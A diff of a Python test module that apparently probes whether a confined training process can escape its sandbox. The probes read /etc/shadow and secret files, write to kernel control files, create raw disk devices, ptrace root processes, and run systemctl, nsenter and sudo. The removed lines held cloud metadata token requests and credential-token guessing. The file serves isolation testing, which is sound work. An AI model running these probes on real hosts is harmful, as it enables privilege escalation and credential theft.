@@ -1,9 +1,11 @@
-"""What a trainer tries on the machine: the run directory, credentials, processes, process 1."""
+"""What a trainer tries on the machine: the run directory, disks, processes, rights, limits.
+Each attack gives back what it got."""
 
 import ctypes
 import fcntl
 import os
 import pathlib
+import resource
 import shutil
 import signal
 import socket
@@ -12,17 +14,25 @@ import struct
 import subprocess
 import threading
 import time
-import urllib.request
 
 from common import LOOT, RUN, STORAGE, VICTIM, each, listed, loot, roots_processes
 
 # By modes of the run directory: what everybody, or the trainer's user, is meant to open.
 FOR_ALL = {"status.json", "notice", "pace", "parameters.json", "trainer.log", "aws-token"}
-METADATA = ("169.254.169.254", 80)
 BOUND = 2000
 
 
-def the_run_directorys_locks():
+def uses_what_it_inherits():
+    """Open files of its parents, and credentials in its environment."""
+    def is_mine(number):
+        where = os.readlink(f"/proc/self/fd/{number}")
+        return where.startswith((str(LOOT), "/proc/self", f"/proc/{os.getpid()}"))
+    return each(lambda number: not is_mine(number),
+                [int(name) for name in os.listdir("/proc/self/fd") if int(name) > 2]) + each(
+        lambda name: name in os.environ, ["AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"])
+
+
+def holds_locks_in_the_run_directory():
     """Who may open a file can wait for its lock, and has it as soon as its holder ends."""
     def wait_for(path):
         if path.name in FOR_ALL or not path.is_file():
@@ -33,7 +43,7 @@ def the_run_directorys_locks():
     return each(wait_for, listed(RUN))
 
 
-def the_run_directorys_files():
+def reads_the_run_directory():
     def read(path):
         if path.name in FOR_ALL or path.is_dir():
             return False
@@ -41,7 +51,7 @@ def the_run_directorys_files():
     return each(read, listed(RUN))
 
 
-def names_in_the_run_directory():
+def makes_names_in_the_run_directory():
     def make(name):
         (RUN / name).write_text("mine")
     def replace(path):
@@ -50,7 +60,7 @@ def names_in_the_run_directory():
                      each(replace, listed(RUN))]).strip()
 
 
-def writing_elsewhere():
+def writes_elsewhere():
     def write(path):
         with open(path, "ab"):
             return True
@@ -59,102 +69,48 @@ def writing_elsewhere():
     places = [VICTIM, VICTIM / "home", *(pathlib.Path(name) for name in (
         "/etc", "/etc/spotter", "/etc/systemd/system", "/etc/cron.d", "/usr/bin", "/usr/lib",
         "/root", "/boot", "/run/systemd/system", "/run/spotter", "/var/lib", "/opt"))]
-    files = [VICTIM / "secret", VICTIM / "readable", pathlib.Path("/etc/passwd"),
-             pathlib.Path("/etc/shadow"), pathlib.Path("/etc/spotter/job.yaml")]
+    files = [VICTIM / "secret", VICTIM / "readable", *(pathlib.Path(name) for name in (
+        "/etc/passwd", "/etc/shadow", "/etc/spotter/job.yaml", "/proc/sysrq-trigger",
+        "/proc/sys/kernel/core_pattern", "/dev/kmsg", "/sys/kernel/uevent_helper"))]
     return f"{each(make, places)} {each(write, files)}".strip()
 
 
-def others_secrets():
+def reads_others_secrets():
     def read(path):
         loot("secret", path.read_bytes())
-    return each(read, [VICTIM / "secret", pathlib.Path("/etc/shadow")])
+    return each(read, [VICTIM / "secret", pathlib.Path("/etc/shadow"),
+                       pathlib.Path("/etc/spotter/environment")])
 
 
-def tell(text, address):
-    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as link:
-        link.setblocking(False)
-        link.sendto(text, address)
+def reads_disks():
+    """The storage's own among them, whose files have modes that a disk has not; and the memory.
+    Where there is no name of one, it makes one."""
+    def read(path):
+        with open(path, "rb") as disk:
+            loot("disk", disk.read(4096) or b"nothing")
+    def make(path):
+        os.mknod(path, stat.S_IFBLK | 0o600, os.makedev(7, 0))
+        read(path)
+    kinds = ("vd*", "xvd*", "sd*", "nvme*", "loop[0-9]*", "dm-*", "mem", "port")
+    there = [path for kind in kinds for path in pathlib.Path("/dev").glob(kind)]
+    return f"{each(read, there)} {each(make, [LOOT / 'disk'])}".strip()
 
 
-def messages_of_others():
-    """What the guard or the supervisor would say; the journal must not show it as theirs."""
-    address = os.environ["NOTIFY_SOCKET"]
-    for text in (b"X_SPOTTER_GUARD=forged\nX_SPOTTER_CHECKPOINT=/forged",
-                 b"X_SPOTTER_GUARD=saved forged.bin", b"X_SPOTTER_GUARD_ENDED=1",
-                 b"X_SPOTTER_CHECKPOINT=/etc/shadow\nX_SPOTTER_CHECKPOINT_STEP=9999999999999999999",
-                 b"STATUS=\x1b]0;owned\x07\xff\xfe", b"\xff" * 60000, b"MAINPID=1", b"STOPPING=1"):
-        each(lambda text: tell(text, address), [text])
-
-
-def a_flood_of_messages():
-    for number in range(BOUND):
-        each(lambda it: tell(b"X_SPOTTER_GUARD=flood %d" % it, os.environ["NOTIFY_SOCKET"]),
-             [number])
-
-
-def sockets_of_process_1():
-    """Datagrams to its own sockets are believed by process id, which is not ours to choose."""
-    each(lambda path: tell(b"MAINPID=1\nSTOPPING=1\nWATCHDOG=trigger", path),
-         ["/run/systemd/notify", "/run/spotter/agent.sock", str(RUN / "agent.sock")])
-
-
-def metadata(bind=None, family=socket.AF_INET, address=METADATA):
-    with socket.socket(family, socket.SOCK_STREAM) as asking:
-        asking.settimeout(1)
-        if bind:
-            asking.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, bind.encode())
-        asking.connect(address)
-        asking.sendall(b"PUT /latest/api/token HTTP/1.0\r\nHost: metadata\r\n"
-                       b"X-aws-ec2-metadata-token-ttl-seconds: 60\r\n\r\n")
-        answer = asking.recv(65536)
-        loot("metadata", answer)
-        return bool(answer)
-
-
-def the_metadata_service():
-    """Plainly, by each device, over IPv6."""
-    return each(metadata, [None, *(name for _, name in socket.if_nameindex())]) + each(
-        lambda address: metadata(None, socket.AF_INET6, address),
-        [("fd00:ec2::254", 80), ("::ffff:169.254.169.254", 80)])
-
-
-def keys_by_guessing():
-    """Tokens of the right length; the trainer's own, cut, longer and changed."""
-    uri, token = (os.environ.get(f"AWS_CONTAINER_{name}", "")
-                  for name in ("CREDENTIALS_FULL_URI", "AUTHORIZATION_TOKEN"))
-    if not uri or not token:
-        return ""
-    def ask(guess):
-        request = urllib.request.Request(uri, headers={"Authorization": guess})
-        with urllib.request.urlopen(request, timeout=5) as answer:
-            return bool(answer.read())
-    return each(ask, ["x" * len(token), token[:-1] + ("a" if token[-1] != "a" else "b"),
-                      token[:-1], token + "x", token.swapcase(), "-"])
-
-
-def idle_connections():
-    """To the endpoint of the keys, each of which asks nothing; held until this process ends."""
-    port = os.environ.get("AWS_CONTAINER_CREDENTIALS_FULL_URI", "").rsplit(":", 1)[-1].split("/")[0]
-    if port.isdigit():
-        idle_connections.held = []
-        for _ in range(200):
-            each(lambda port: idle_connections.held.append(
-                socket.create_connection(("127.0.0.1", port), 1)), [int(port)])
-
-
-def processes_of_root():
+def touches_processes_of_root():
     """Signals, memory, environment and files of those that are root's."""
     pids = [pid for pid, _ in roots_processes()]
-    got = each(lambda pid: os.kill(pid, signal.SIGCONT), pids)
-    got += each(lambda pid: pathlib.Path(f"/proc/{pid}/environ").read_bytes() and None, pids)
-    got += each(lambda pid: open(f"/proc/{pid}/mem", "r+b").close(), pids)
-    got += each(lambda pid: os.listdir(f"/proc/{pid}/fd") and None, pids)
     libc = ctypes.CDLL(None, use_errno=True)
-    attach = 16  # PTRACE_ATTACH
-    return got + " ".join(str(pid) for pid in pids if libc.ptrace(attach, pid, 0, 0) == 0)
+    def attach(pid):
+        if libc.ptrace(16, pid, 0, 0) != 0:  # PTRACE_ATTACH
+            raise OSError(ctypes.get_errno(), "ptrace")
+    tries = (lambda pid: os.kill(pid, signal.SIGCONT),
+             lambda pid: pathlib.Path(f"/proc/{pid}/environ").read_bytes(),
+             lambda pid: open(f"/proc/{pid}/mem", "r+b").close(),
+             lambda pid: os.listdir(f"/proc/{pid}/fd"), attach)
+    return " ".join(each(one, pids) for one in tries).strip()
 
 
-def programs_of_root_that_the_trainer_can_write():
+def writes_programs_that_root_runs():
     """Neither what root runs nor a folder on the way there; in a sticky one names stay."""
     def can_write(path):
         ways = [pathlib.Path(path), *pathlib.Path(path).parents]
@@ -164,64 +120,80 @@ def programs_of_root_that_the_trainer_can_write():
                                    for word in words.split()[:1]}))
 
 
-def process_1_by_its_bus():
+def run_each(commands):
+    """Those that succeeded, of those whose program is there."""
+    def run(command):
+        return subprocess.run(command.split(), stdin=subprocess.DEVNULL, capture_output=True,
+                              timeout=20, check=False).returncode == 0
+    return each(run, [command for command in commands if shutil.which(command.split()[0])])
+
+
+def commands_process_1():
     """What only root may ask of it."""
-    commands = (["systemctl", "--no-ask-password", "stop", "spotter.service"],
-                ["systemctl", "--no-ask-password", "restart", "spotter.service"],
-                ["systemctl", "--no-ask-password", "kill", "spotter.service"],
-                ["systemctl", "--no-ask-password", "set-environment", "LD_PRELOAD=/tmp/x.so"],
-                ["systemd-run", "--no-ask-password", "--wait", "/usr/bin/id"],
-                ["busctl", "call", "org.freedesktop.systemd1", "/org/freedesktop/systemd1",
-                 "org.freedesktop.systemd1.Manager", "Reload"])
-    got = []
-    for command in commands:
-        if shutil.which(command[0]) and pathlib.Path("/run/systemd/system").exists():
-            done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True,
-                                  timeout=20, check=False)
-            got += [" ".join(command)] if done.returncode == 0 else []
-    return ", ".join(got)
+    control = "systemctl --no-ask-password"
+    return run_each([f"{control} stop spotter.service", f"{control} restart spotter.service",
+                     f"{control} kill spotter.service",
+                     f"{control} set-environment LD_PRELOAD=/tmp/x.so",
+                     "systemd-run --no-ask-password --wait /usr/bin/id",
+                     "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1"
+                     " org.freedesktop.systemd1.Manager Reload"])
 
 
-def programs_that_give_rights():
-    got = []
-    for command in (["sudo", "-n", "id"], ["su", "-c", "id"], ["pkexec", "id"],
-                    ["unshare", "--mount", "id"], ["mount", "-t", "tmpfs", "x", str(VICTIM)]):
-        if shutil.which(command[0]):
-            done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True,
-                                  timeout=20, check=False)
-            got += [" ".join(command)] if done.returncode == 0 else []
-    return ", ".join(got)
+def runs_programs_that_give_rights():
+    return run_each(["sudo -n id", "su -c id", "pkexec id", "unshare --mount id",
+                     f"mount -t tmpfs x {VICTIM}", f"chown root {LOOT}", "nsenter -t 1 -m id"])
 
 
-def another_control_group():
-    def move(path):
-        path.write_text(str(os.getpid()))
-    return each(move, [path for path in pathlib.Path("/sys/fs/cgroup").glob("*/cgroup.procs")][:50])
+def moves_into_another_control_group():
+    groups = [path for path in pathlib.Path("/sys/fs/cgroup").rglob("cgroup.procs")][:50]
+    return each(lambda path: path.write_text(str(os.getpid())), groups)
 
 
-def names_of_abstract_sockets():
+def takes_names_of_abstract_sockets():
+    """Of no use: ours have a path. The names are held while it trains."""
     for name in ("spotter", "spotter-agent", "spotter-trainer", str(RUN / "agent.sock")):
         held = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
         each(lambda name, held=held: held.bind("\0" + name), [name])
-        names_of_abstract_sockets.__dict__.setdefault("held", []).append(held)
+        takes_names_of_abstract_sockets.__dict__.setdefault("held", []).append(held)
 
 
-def many_inodes():
+def raises_its_limits():
+    bounded = [limit for name, limit in vars(resource).items() if name.startswith("RLIMIT_")
+               and resource.getrlimit(limit)[1] != resource.RLIM_INFINITY]
+    def raise_one(limit):
+        hard = resource.getrlimit(limit)[1]
+        resource.setrlimit(limit, (hard + 1, hard + 1))
+    return each(raise_one, bounded)
+
+
+def makes_the_kernel_prefer_it():
+    """For want of memory it is to be spared, and to run before all others."""
+    spare = pathlib.Path("/proc/self/oom_score_adj")
+    before = int(spare.read_text())
+    return each(lambda score: spare.write_text(str(score)), [before - 1, -1000]) + each(
+        lambda nice: os.setpriority(os.PRIO_PROCESS, 0, nice), [-5]) + each(
+        lambda kind: os.sched_setscheduler(0, kind, os.sched_param(1)),
+        [os.SCHED_FIFO, os.SCHED_RR])
+
+
+def has_processes_without_end():
+    """Of its user, or of its control group: one of them has a limit. (Forking up to it would take
+    that user's other processes along, on a machine that tests share.)"""
+    own = pathlib.Path("/proc/self/cgroup").read_text().splitlines()
+    limits = [pathlib.Path(f"/sys/fs/cgroup{kind}{line.split(':')[2]}/pids.max")
+              for line in own for kind in ("", "/pids")]
+    in_groups = [path.read_text().strip() for path in limits if path.exists()]
+    of_user = resource.getrlimit(resource.RLIMIT_NPROC)[1]
+    return each(lambda _: of_user == resource.RLIM_INFINITY and not any(
+        text.isdigit() for text in in_groups), ["no limit"])
+
+
+def makes_many_files():
+    """And removes them: the storage goes on."""
     folder = STORAGE / "many"
     folder.mkdir(exist_ok=True)
-    for number in range(BOUND):
-        (folder / str(number)).touch()
+    each(lambda number: (folder / str(number)).touch(), range(BOUND))
     shutil.rmtree(folder)
-
-
-def more_than_its_limits():
-    import resource
-    for limit in (resource.RLIMIT_NPROC, resource.RLIMIT_MEMLOCK):
-        soft, hard = resource.getrlimit(limit)
-        if hard != resource.RLIM_INFINITY:
-            each(lambda pair: resource.setrlimit(limit, pair) or LOOT.joinpath("raised").touch(),
-                 [(hard + 1, hard + 1)])
-    return (LOOT / "raised").exists() and "raised a hard limit"
 
 
 def write_for_ever(path):
@@ -238,24 +210,8 @@ def write_for_ever(path):
     os._exit(0)
 
 
-def chains_that_outlive_it():
-    for number in range(8):
+def leaves_processes_that_go_on():
+    def leave(number):
         if os.fork() == 0:
             write_for_ever(STORAGE / f"after-{number}")
-
-
-def my_own_keys():
-    """No attack: while all that is tried, the endpoint still answers who has the token."""
-    uri, token = (os.environ.get(f"AWS_CONTAINER_{name}", "")
-                  for name in ("CREDENTIALS_FULL_URI", "AUTHORIZATION_TOKEN"))
-    request = urllib.request.Request(uri, headers={"Authorization": token})
-    with urllib.request.urlopen(request, timeout=20) as answer:
-        return answer.status
-
-
-ALL = [the_run_directorys_locks, the_run_directorys_files, names_in_the_run_directory,
-       writing_elsewhere, others_secrets, messages_of_others, a_flood_of_messages,
-       sockets_of_process_1, the_metadata_service, keys_by_guessing, my_own_keys, idle_connections,
-       processes_of_root, programs_of_root_that_the_trainer_can_write, process_1_by_its_bus,
-       programs_that_give_rights, another_control_group, names_of_abstract_sockets, many_inodes,
-       more_than_its_limits, chains_that_outlive_it]
+    each(leave, range(8))
